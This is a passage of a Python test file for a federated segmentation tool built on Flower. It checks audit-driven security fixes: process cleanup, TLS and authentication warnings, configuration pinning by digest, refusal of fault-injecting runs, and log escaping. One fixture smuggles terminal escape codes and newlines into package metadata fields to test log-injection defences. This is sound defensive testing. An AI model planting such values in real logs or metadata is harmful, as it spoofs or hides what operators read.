    """Flower's SuperExec starts the ServerApp, out of reach of the launcher's clean-up: a coordinator killed with
    SIGKILL left it running (an attack on a real deployment). With the launcher's PID and start time in its
    environment, a real process running ``stop_with_launcher`` ends within a few polls of the launcher's end, and
    not before; a launcher that has exited but is not reaped yet (a zombie) counts as gone, and so does a PID whose
    process started at another time (reused)."""
    import os

    from fedseg.interrupts import start_time

    code = "from fedseg.flower.server import stop_with_launcher; import time; stop_with_launcher(0.1); time.sleep(60)"

    def app_like(launcher_env: str) -> subprocess.Popen:
        env = {**os.environ, "FEDSEG_LAUNCHER_PID": launcher_env}
        return subprocess.Popen([sys.executable, "-c", code], env=env, stderr=subprocess.PIPE)

    launcher = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(2)"])
    watching = app_like(f"{launcher.pid}:{start_time(launcher.pid)}")
    reused = app_like(f"{os.getpid()}:1")  # this process's PID, but "started" at another time
    try:
        time.sleep(1.0)
        assert watching.poll() is None  # alive while its launcher lives
        assert reused.wait(timeout=30) == 1
        assert watching.wait(timeout=30) == 1  # the launcher exited and, not reaped by us yet, is a zombie
        assert launcher.poll() is not None
    finally:
        for proc in (watching, reused, launcher):
            proc.kill()
            proc.wait()


def test_the_run_config_every_site_receives_holds_nothing_of_the_coordinators_machine(tmp_path, tiny_config, folder):
    """The run config travels to every SuperNode; the coordinator's output folder went with it (an audit)."""
    from fedseg.data.folder import load_folder
    from fedseg.flower.launch import run_config

    config = run_config(tiny_config(), load_folder(folder), 120.0, 0.2, False, "key")
    assert "fedseg-out" not in config and str(tmp_path) not in json.dumps(config)


def test_a_coordinator_open_to_the_network_without_tls_or_node_authentication_is_warned_about():
    """An audit: `--insecure` or no `--auth-keys` on 0.0.0.0 (the default host) printed nothing to warn that any
    machine could read the traffic or claim a site; loopback-only and fully protected coordinators say nothing."""
    from fedseg.flower.cli import unprotected

    both = unprotected("0.0.0.0", tls=False, auth=False)
    assert both is not None and "without TLS (--certs) and without SuperNode authentication (--auth-keys)" in both
    assert "read on the way" in both and "claim to be any site" in both
    no_auth = unprotected("10.0.0.5", tls=True, auth=False)
    assert no_auth is not None and "claim to be any site" in no_auth and "read on the way" not in no_auth
    assert [unprotected(h, False, False) for h in ("127.0.0.1", "::1", "localhost")] == [None] * 3
    assert unprotected("0.0.0.0", tls=True, auth=True) is None
    from fedseg.flower.cli import is_loopback

    assert [is_loopback(h) for h in ("127.0.0.1", "::1", "localhost", "0.0.0.0", "10.0.0.5")] == [1, 1, 1, 0, 0]


def test_a_failed_run_with_finished_rounds_says_how_to_continue(tmp_path):
    """A site killed mid-run stopped the coordinator with the site's error alone, though round 1's checkpoint was
    kept (an audit): the message now says where the finished rounds are and that --resume continues from them."""
    from fedseg.flower.cli import resumable

    out = tmp_path / "out"
    assert resumable(out) == ""  # nothing kept: nothing to continue
    (out / "checkpoints").mkdir(parents=True)
    (out / "checkpoints" / "fedavg.pt").write_bytes(b"x")
    said = resumable(out)
    assert f"the finished rounds are kept in {out / 'checkpoints'}" in said and "--resume continues" in said
    (out / "summary.json").write_text("{}")
    assert resumable(out) == ""  # a finished run


def test_a_site_records_the_configuration_its_data_trains_with(folder, tiny_config, tmp_path, caplog):
    """A hospital could not tell afterwards what its data was used for (an audit: its log showed message types only):
    at the data check the site logs the run's algorithms, rounds, seed and configuration digest once, and keeps the
    whole configuration, readable by the SuperNode's user only, beside its case-id mapping."""
    import hashlib

    from fedseg.config_load import config_record

    cfg = tiny_config()
    ctx = _context("site2", folder, cfg)
    ctx.node_config["samples"] = str(tmp_path / "samples")
    with caplog.at_level(logging.INFO, logger="fedseg.flower.node"):
        assert not node.handle(_info(check_folder(folder)), ctx).has_error()
        assert not node.handle(_info(check_folder(folder)), ctx).has_error()  # asked again: said once
    (kept,) = (tmp_path / "samples").glob("run-config__*.json")
    digest = hashlib.sha256(kept.read_bytes()).hexdigest()  # what `sha256sum` of the kept file prints (an audit:
    said = [r.getMessage() for r in caplog.records if "the coordinator's run" in r.getMessage()]  # it did not)
    assert said == [
        f"site site2: the coordinator's run: {', '.join(cfg.algorithms)}, {cfg.fl.rounds} rounds, seed {cfg.seed}, "
        f"secure aggregation off, configuration sha256 {digest}"
    ]
    assert digest == config_record(cfg)[1]  # the coordinator's, printed when it submits the run
    assert kept.name == f"run-config__site2__{digest[:16]}.json" and stat.S_IMODE(kept.stat().st_mode) == 0o600
    assert json.loads(kept.read_text()) == json.loads(cfg.model_dump_json())


def test_a_site_pinned_to_the_agreed_configuration_refuses_any_other_before_its_data_trains(
    folder, tiny_config, tmp_path
):
    """A security officer could not make a site refuse a configuration it had not agreed to (an audit): with
    --config-sha256 (the digest `fedseg flower config-digest` prints for the study's options) the data check fails
    with one line naming both digests and the kept configuration; the agreed one passes."""
    from typer.testing import CliRunner

    from fedseg.cli import app
    from fedseg.config_load import config_record, dump_config

    agreed, other = tiny_config(algorithms=["fedavg"]), tiny_config(algorithms=["fedavg"], fl={"rounds": 3})
    config = tmp_path / "study.yaml"
    config.write_text(dump_config(agreed))
    said = CliRunner().invoke(
        app, ["flower", "config-digest", "--config", str(config), "--write", str(tmp_path / "a.json")]
    )
    assert said.exit_code == 0, said.output
    digest = config_record(agreed)[1]
    assert said.output.strip() == f"configuration sha256 {digest} ({tmp_path / 'a.json'})"
    assert (tmp_path / "a.json").read_text() == config_record(agreed)[0]
    refused = CliRunner().invoke(app, ["flower", "config-digest", "--preset", "demo"])  # centralized: not on Flower
    assert refused.exit_code == 1 and "cannot run on Flower: 'centralized'" in refused.output
    for cfg, refused in ((agreed, False), (other, True)):
        ctx = _context("site2", folder, cfg)
        ctx.node_config.update({"samples": str(tmp_path / "samples"), "config-sha256": digest})
        reply = node.handle(_info(check_folder(folder)), ctx)
        assert reply.has_error() == refused
    reason = reply.error.reason
    assert (
        "site site2: refused the coordinator's run before any of its data trains: its configuration (sha256 " in reason
    )
    assert (
        f"is not the one this site agreed to (--config-sha256 {digest})" in reason and "run-config__site2__" in reason
    )
    # a coordinator that skips the data check: its first training message is refused the same way, nothing trained
    from fedseg.engine.messages import Message
    from fedseg.flower.records import to_recorddict

    ctx = _context("site2", folder, other)
    ctx.node_config.update({"state": str(tmp_path / "state"), "config-sha256": digest})
    train = _query("x", {})
    train.metadata.__dict__["_message_type"] = "train.fedavg"
    train.content = to_recorddict(
        Message({"w": torch.zeros(3)}),
        {"site": "site2", "algorithm": "fedavg", "site_index": 1, "num_sites": 2, "round": 1},
    )
    refused = node.handle(train, ctx)
    assert refused.has_error() and "is not the one this site agreed to" in refused.error.reason
    assert node.get_state(ctx, node.STATE + "fedavg") == {}  # nothing trained


def test_a_site_refuses_a_run_that_injects_faults_unless_started_for_a_test_deployment(folder, tiny_config, tmp_path):
    """An attack on a real TLS + SecAgg+ deployment: the coordinator's configuration alone (``faults``: every other
    site ``scale`` by 0, i.e. it sends back the model it received) made the secure sum one site's update, and no
    site's log named the faults. A SuperNode now refuses such a run at its data check and at any later message,
    unless started with --allow-injected-faults (``fedseg flower local`` starts its sites so); the log line counts
    the faults."""
    from fedseg.engine.messages import Message
    from fedseg.flower.records import to_recorddict
    from fedseg.flower.supernode import node_config, supernode_command

    faults = [{"site": "site1", "kind": "scale", "factor": 0.0}, {"site": "site2", "round": 2, "kind": "crash"}]
    cfg = tiny_config(algorithms=["fedavg"], faults=faults)
    ctx = _context("site2", folder, cfg)
    reply = node.handle(_info(check_folder(folder)), ctx)
    assert reply.has_error()
    assert (
        "site site2: refused the coordinator's run before any of its data trains: its configuration injects faults "
        "(scale x0 at site1; crash at site2 round 2), a testing tool" in reply.error.reason
    ), reply.error.reason
    assert "--allow-injected-faults" in reply.error.reason
    train = _query("x", {})
    train.metadata.__dict__["_message_type"] = "train.fedavg"
    train.content = to_recorddict(
        Message({"w": torch.zeros(3)}),
        {"site": "site2", "algorithm": "fedavg", "site_index": 1, "num_sites": 2, "round": 1},
    )
    assert "injects faults" in node.handle(train, ctx).error.reason  # a coordinator skipping the data check
    # a test deployment's site takes it, and says so in its log line
    ctx = _context("site2", folder, cfg)
    ctx.node_config.update({"allow-faults": "true"})
    assert not node.handle(_info(check_folder(folder)), ctx).has_error()
    assert "allow-faults='true'" in node_config("site2", folder, None, allow_faults=True)
    assert "allow-faults" not in node_config("site2", folder, None)
    local = supernode_command("s", folder, "127.0.0.1:1", 1, None, None, None, "warm", None, allow_faults=True)
    assert "--allow-injected-faults" in local
    assert "--allow-injected-faults" not in supernode_command(
        "s", folder, "127.0.0.1:1", 1, None, None, None, "warm", None
    )


def test_a_foreign_bundles_name_is_one_escaped_line_too():
    """The refused bundle's name comes from the coordinator's pyproject.toml: newlines were folded, but terminal
    escape codes reached the site's log (the review of the log-injection fix); one helper escapes both."""
    import io
    import zipfile

    from fedseg.flower.bundles import bundle_name

    pyproject = (
        '[project]\nname = "x\\u001b[2J"\nversion = "1\\nFAKE"\n[tool.flwr.app]\npublisher = "evil\\u001b[31m"\n'
    )
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as fab:
        fab.writestr("pyproject.toml", pyproject)
    name = bundle_name(content.getvalue())
    assert name is not None and "\x1b" not in name and "\n" not in name and "\\x1b[31m" in name


def test_the_configuration_digest_does_not_depend_on_the_order_options_were_given(tiny_config):
    """`--set methods.fedavg.aggregator=krum --set methods.fedavg.krum_f=1` and the reverse gave two digests, so a
    pinned site refused its agreed configuration given in another order (a security re-test)."""
    from fedseg.config_load import config_record, load_config

    a = load_config(preset="demo", overrides=["methods.fedavg.aggregator=krum", "methods.fedavg.krum_f=1"])
    b = load_config(preset="demo", overrides=["methods.fedavg.krum_f=1", "methods.fedavg.aggregator=krum"])
    assert config_record(a)[1] == config_record(b)[1]
    assert config_record(a)[1] != config_record(load_config(preset="demo"))[1]
